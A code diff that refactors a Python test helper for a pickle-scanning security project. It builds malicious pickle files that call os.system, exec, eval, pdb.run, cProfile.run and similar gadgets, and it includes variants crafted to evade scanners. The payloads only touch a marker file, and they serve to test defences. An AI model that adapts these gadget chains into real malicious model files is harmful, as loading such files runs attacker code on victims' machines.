@@ -12,8 +12,10 @@ Pickles are assembled opcode by opcode where the technique needs it; elsewhere t
 writer `(path) -> None` for files that need a library or side files; `write_case` puts either
 on disk, `build_corpus` writes many, one folder each (with a listener for network cases).
 `run_loads` loads files with the real loaders (pickle, joblib, numpy, skops, this project's
-loader), each in a forked child of one subprocess (`CONTROL_RUNNER`): the tests use it to
-prove each payload is real, and never run a payload in their own process.
+loader), each in a forked child of one subprocess (`CONTROL_RUNNER`), and `load_corpus` builds
+cases and loads them so: the tests use it to prove each payload is real (or, with the scan
+bypassed, that this project's loader still refuses it), and never run a payload in their own
+process.
 
 Nothing here is a test, and importing this module needs neither numpy nor joblib.
 """
@@ -37,13 +39,17 @@ import zlib
 from collections.abc import Callable, Iterator
 from contextlib import ExitStack, contextmanager
 from dataclasses import dataclass
+from functools import partial
 from pathlib import Path
 from typing import Any
 
 import pytest
 
+REPO = Path(__file__).resolve().parents[1]
+
 Writer = Callable[[Path], None]
 Payload = bytes | Writer
+Outcome = dict[str, Any]  # a load's outcome, as CONTROL_RUNNER reports it
 
 
 @dataclass(frozen=True)
@@ -137,11 +143,12 @@ def frame(body: bytes, claimed: int | None = None) -> bytes:
 
 def text_global(module: str, name: str) -> bytes:
     """GLOBAL: protocol 0's text form (every protocol accepts it)."""
-    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
+    return b"c" + (module + "\n" + name + "\n").encode("utf-8", "surrogatepass")
 
 
 def ustr(text: str) -> bytes:
-    data = text.encode()
+    """SHORT_BINUNICODE, or BINUNICODE when long (lone surrogates kept, as pickle does)."""
+    data = text.encode("utf-8", "surrogatepass")
     if len(data) < 256:
         return b"\x8c" + bytes([len(data)]) + data
     return b"X" + struct.pack("<I", len(data)) + data
@@ -190,6 +197,21 @@ def whole(body: bytes, protocol: int = 4) -> bytes:
 def os_system(target: Target) -> bytes:
     """os.system('touch MARKER') with STACK_GLOBAL; leaves the exit status."""
     return call(sglobal("os", "system"), ustr(target.shell))
+
+
+def os_system_text(target: Target) -> bytes:
+    """os.system('touch MARKER') in protocol 0's text opcodes (GLOBAL, STRING)."""
+    return call(text_global("os", "system"), sstr(target.shell))
+
+
+def runs_python(module: str, name: str, *after: bytes) -> Callable[[Target], bytes]:
+    """A whole pickle calling module.name(PYTHON SOURCE, *after) (STACK_GLOBAL)."""
+    return lambda t: whole(call(sglobal(module, name), ustr(t.python), *after))
+
+
+def runs_shell(module: str, name: str) -> Callable[[Target], bytes]:
+    """A whole pickle calling module.name(SHELL COMMAND) (STACK_GLOBAL)."""
+    return lambda t: whole(call(sglobal(module, name), ustr(t.shell)))
 
 
 # ---------------------------------------------------------------- objects to dump
@@ -286,10 +308,6 @@ def zlib_zeros(prefix: bytes, chunks: int, suffix: bytes, chunk: int = 1 << 20) 
 
 
 # ---------------------------------------------------------------- builders
-
-
-def _pickle_of(obj_of: Callable[[Target], object], protocol: int) -> Callable[[Target], Payload]:
-    return lambda t: pickle.dumps(obj_of(t), protocol=protocol)
 
 
 def _joblib_dump(
@@ -520,7 +538,7 @@ def _gzip_member_after_a_valid_one(target: Target) -> bytes:
 
 
 def _legacy_zfile(target: Target) -> bytes:
-    data = whole(call(text_global("os", "system"), sstr(target.shell)), 2)
+    data = whole(os_system_text(target), 2)
     return b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data)
 
 
@@ -733,14 +751,19 @@ def _trailing_pickle(target: Target) -> bytes:
     return whole(ustr("benign model"), 4) + whole(os_system(target), 4)
 
 
-def _ext(code: int, opcode: bytes) -> Callable[[Target], Payload]:
-    width = {b"\x82": "<B", b"\x83": "<H", b"\x84": "<i"}[opcode]
-    return lambda t: whole(
-        opcode + struct.pack(width, code) + MARK + ustr(t.shell) + TUPLE + REDUCE, 2
-    )
+# Each EXT opcode, its code's width, and the code the corpus registers os.system under.
+EXTENSIONS = {
+    "EXT1": (b"\x82", "<B", 0xE1),
+    "EXT2": (b"\x83", "<H", 0x1E2E),
+    "EXT4": (b"\x84", "<i", 0x1234567),
+}
 
 
-EXT_CODES = {"EXT1": 0xE1, "EXT2": 0x1E2E, "EXT4": 0x1234567}
+def extension_call(ext: str, code: int, target: Target) -> bytes:
+    """A protocol-2 pickle calling extension `code` (os.system, once registered) with the
+    shell command: `ext` is "EXT1", "EXT2" or "EXT4"."""
+    opcode, width, _ = EXTENSIONS[ext]
+    return whole(call(opcode + struct.pack(width, code), ustr(target.shell)), 2)
 
 
 def _ext_setup(code: int) -> str:
@@ -764,13 +787,13 @@ def malicious_cases() -> list[Case]:
         # ---- direct calls
         Case(
             "os_system_global_opcode",
-            lambda t: whole(call(text_global("os", "system"), sstr(t.shell)), 0),
+            lambda t: whole(os_system_text(t), 0),
             ("os.system",),
             reference="the classic __reduce__ payload",
         ),
         Case(
             "posix_system_stack_global",
-            lambda t: whole(call(sglobal("posix", "system"), ustr(t.shell))),
+            runs_shell("posix", "system"),
             ("posix.system",),
             reference="what pickle writes for os.system",
         ),
@@ -803,12 +826,12 @@ def malicious_cases() -> list[Case]:
         ),
         Case(
             "builtins_eval",
-            lambda t: whole(call(sglobal("builtins", "eval"), ustr(t.python))),
+            runs_python("builtins", "eval"),
             ("builtins.eval",),
         ),
         Case(
             "builtins_exec",
-            lambda t: whole(call(sglobal("builtins", "exec"), ustr(t.python))),
+            runs_python("builtins", "exec"),
             ("builtins.exec",),
         ),
         Case(
@@ -827,9 +850,7 @@ def malicious_cases() -> list[Case]:
         ),
         Case(
             "numpy_f2py_eval",
-            lambda t: whole(
-                call(sglobal("numpy.f2py.crackfortran", "_eval_scalar"), ustr(t.python), EMPTY_DICT)
-            ),
+            runs_python("numpy.f2py.crackfortran", "_eval_scalar", EMPTY_DICT),
             ("numpy.f2py.crackfortran._eval_scalar",),
             reference=f"{FK}/pull/210 (numpy.f2py eval gadgets)",
         ),
@@ -864,11 +885,7 @@ def malicious_cases() -> list[Case]:
         Case(
             "pkgutil_resolve_name",
             lambda t: whole(
-                call(sglobal("pkgutil", "resolve_name"), ustr("os:system"))
-                + MARK
-                + ustr(t.shell)
-                + TUPLE
-                + REDUCE
+                call(call(sglobal("pkgutil", "resolve_name"), ustr("os:system")), ustr(t.shell))
             ),
             ("pkgutil.resolve_name",),
             ("indirect-call",),
@@ -881,7 +898,7 @@ def malicious_cases() -> list[Case]:
         ),
         Case(
             "runpy_run_code",
-            lambda t: whole(call(sglobal("runpy", "_run_code"), ustr(t.python), EMPTY_DICT)),
+            runs_python("runpy", "_run_code", EMPTY_DICT),
             ("runpy._run_code",),
         ),
         Case(
@@ -892,19 +909,19 @@ def malicious_cases() -> list[Case]:
         ),
         Case(
             "cprofile_run",
-            lambda t: whole(call(sglobal("cProfile", "run"), ustr(t.python))),
+            runs_python("cProfile", "run"),
             ("cProfile.run",),
             reference=f"{PS}/security/advisories/GHSA-46h3-79wf-xr6c",
         ),
         Case(
             "profile_run",
-            lambda t: whole(call(sglobal("profile", "run"), ustr(t.python))),
+            runs_python("profile", "run"),
             ("profile.run",),
             reference=f"{PS}/security/advisories/GHSA-7wx9-6375-f5wh",
         ),
         Case(
             "pdb_run",
-            lambda t: whole(call(sglobal("pdb", "run"), ustr(t.python))),
+            runs_python("pdb", "run"),
             ("pdb.run",),
             reference=f"{PS}/security/advisories/GHSA-4675-36f9-wf6r",
         ),
@@ -912,13 +929,12 @@ def malicious_cases() -> list[Case]:
             "operator_attrgetter",
             lambda t: whole(
                 call(
-                    call(sglobal("operator", "attrgetter"), ustr("system")),
-                    sglobal("posixpath", "os"),
+                    call(
+                        call(sglobal("operator", "attrgetter"), ustr("system")),
+                        sglobal("posixpath", "os"),
+                    ),
+                    ustr(t.shell),
                 )
-                + MARK
-                + ustr(t.shell)
-                + TUPLE
-                + REDUCE
             ),
             ("operator.attrgetter", "posixpath.os"),
             ("indirect-call",),
@@ -1109,12 +1125,12 @@ def malicious_cases() -> list[Case]:
         # ---- dotted and dunder names
         Case(
             "dotted_getattr_self",
-            lambda t: whole(call(sglobal("builtins", "getattr.__self__.exec"), ustr(t.python))),
+            runs_python("builtins", "getattr.__self__.exec"),
             ("builtins.getattr.__self__.exec",),
         ),
         Case(
             "dotted_os_path_os_system",
-            lambda t: whole(call(sglobal("os", "path.os.system"), ustr(t.shell))),
+            runs_shell("os", "path.os.system"),
             ("os.path.os.system",),
         ),
         Case(
@@ -1124,17 +1140,15 @@ def malicious_cases() -> list[Case]:
         ),
         Case(
             "dotted_sklearn_to_os",
-            lambda t: whole(call(sglobal("sklearn", "os.system"), ustr(t.shell))),
+            runs_shell("sklearn", "os.system"),
             ("sklearn.os.system",),
         ),
         Case(
             "dunder_builtins_of_a_module",
             lambda t: whole(
-                call(sglobal("sklearn.base", "__builtins__.get"), ustr("exec"))
-                + MARK
-                + ustr(t.python)
-                + TUPLE
-                + REDUCE
+                call(
+                    call(sglobal("sklearn.base", "__builtins__.get"), ustr("exec")), ustr(t.python)
+                )
             ),
             ("sklearn.base.__builtins__.get",),
             ("indirect-call",),
@@ -1247,16 +1261,14 @@ def malicious_cases() -> list[Case]:
         # ---- extension registry and persistent ids
         *(
             Case(
-                f"extension_registry_{name.lower()}",
-                _ext(code, opcode),
+                f"extension_registry_{ext.lower()}",
+                partial(extension_call, ext, code),
                 (),
                 ("extension-registry",),
                 setup=_ext_setup(code),
                 reference="https://github.com/promptfoo/modelaudit/pull/623",
             )
-            for (name, code), opcode in zip(
-                EXT_CODES.items(), (b"\x82", b"\x83", b"\x84"), strict=True
-            )
+            for ext, (_, _, code) in EXTENSIONS.items()
         ),
         Case(
             "persistent_id_text",
@@ -1496,14 +1508,12 @@ def malicious_cases() -> list[Case]:
         # ---- streams the scanner once took for "not a pickle" (no protocol header)
         Case(
             "no_header_memo_key_leading_zero",
-            lambda t: (
-                NONE + b"p01\n" + POP + call(text_global("os", "system"), sstr(t.shell)) + STOP
-            ),
+            lambda t: NONE + b"p01\n" + POP + os_system_text(t) + STOP,
             ("os.system",),
         ),
         Case(
             "no_header_int_in_octal",
-            lambda t: b"I010\n" + POP + call(text_global("os", "system"), sstr(t.shell)) + STOP,
+            lambda t: b"I010\n" + POP + os_system_text(t) + STOP,
             ("os.system",),
             bypass="fails",
             reference="found by tests/test_safety_fuzz.py",
@@ -1519,44 +1529,25 @@ def malicious_cases() -> list[Case]:
         Case(
             "no_header_setitem_on_list",
             lambda t: (
-                MARK
-                + b"I1\n"
-                + b"l"
-                + b"I0\n"
-                + NONE
-                + SETITEM
-                + POP
-                + call(text_global("os", "system"), sstr(t.shell))
-                + STOP
+                MARK + b"I1\n" + b"l" + b"I0\n" + NONE + SETITEM + POP + os_system_text(t) + STOP
             ),
             ("os.system",),
         ),
         Case(
             "no_header_readonly_buffer",
-            lambda t: b"C\x01a\x98" + POP + call(text_global("os", "system"), sstr(t.shell)) + STOP,
+            lambda t: b"C\x01a\x98" + POP + os_system_text(t) + STOP,
             ("os.system",),
         ),
         Case(
             "no_header_frame_straddle",
-            lambda t: (
-                frame(b"", claimed=3)
-                + sstr("padding")
-                + POP
-                + call(text_global("os", "system"), sstr(t.shell))
-                + STOP
-            ),
+            lambda t: frame(b"", claimed=3) + sstr("padding") + POP + os_system_text(t) + STOP,
             ("os.system",),
             ("bad-frame",),
             bypass="fails",
         ),
         Case(
             "no_header_text_line_over_1_mib",
-            lambda t: (
-                sstr("a" * (1 << 20))
-                + POP
-                + call(text_global("os", "system"), sstr(t.shell))
-                + STOP
-            ),
+            lambda t: sstr("a" * (1 << 20)) + POP + os_system_text(t) + STOP,
             (),
             ("malformed",),
             bypass="fails",
@@ -1735,9 +1726,13 @@ def build_corpus(root: Path, cases: list[Case]) -> Iterator[dict[str, Built]]:
         yield built
 
 
+def assert_nothing_ran(item: Built) -> None:
+    assert not item.marker.exists(), f"{item.case.name}: the payload ran"
+
+
 def run_loads(
-    built: dict[str, Built], loader: Callable[[Case], str | None], repo: Path, timeout: float = 120
-) -> dict[str, dict[str, Any]]:
+    built: dict[str, Built], loader: Callable[[Case], str | None], timeout: float = 120
+) -> dict[str, Outcome]:
     """Load each built file with `loader(case)` (skipped where None), each in a forked child
     of one subprocess that imports numpy, joblib and scikit-learn once. Returns each
     outcome by case name ({"outcome": "loaded"} or {"outcome": "raised", "type",
@@ -1761,12 +1756,12 @@ def run_loads(
                 "stdin": str(stdin),
             }
         )
-    env = {**os.environ, "PYTHONPATH": str(repo)}
+    env = {**os.environ, "PYTHONPATH": str(REPO)}
     subprocess.run(
         [sys.executable, "-c", CONTROL_RUNNER],
         input=json.dumps(jobs),
         text=True,
-        cwd=repo,
+        cwd=REPO,
         env=env,
         timeout=timeout,
         check=True,
@@ -1781,8 +1776,22 @@ def run_loads(
     return outcomes
 
 
-def wait_for(paths: list[Path], seconds: float = 5.0) -> None:
+def wait_for(paths: list[Path], seconds: float) -> None:
     """Give payloads that finish in a background process (Popen) time to do so."""
     deadline = time.monotonic() + seconds
     while time.monotonic() < deadline and not all(p.exists() for p in paths):
         time.sleep(0.05)
+
+
+@contextmanager
+def load_corpus(
+    root: Path, cases: list[Case], loader: Callable[[Case], str | None], wait_seconds: float
+) -> Iterator[dict[str, tuple[Outcome, bool]]]:
+    """Build `cases` under `root` (build_corpus), load each with `loader(case)` (run_loads),
+    give background payloads `wait_seconds` to finish, and yield by case name: (the load's
+    outcome, whether the case's marker appeared). Network listeners live as long as the
+    context."""
+    with build_corpus(root, cases) as built:
+        outcomes = run_loads(built, loader)
+        wait_for([item.marker for item in built.values()], wait_seconds)
+        yield {name: (outcomes[name], item.marker.exists()) for name, item in built.items()}
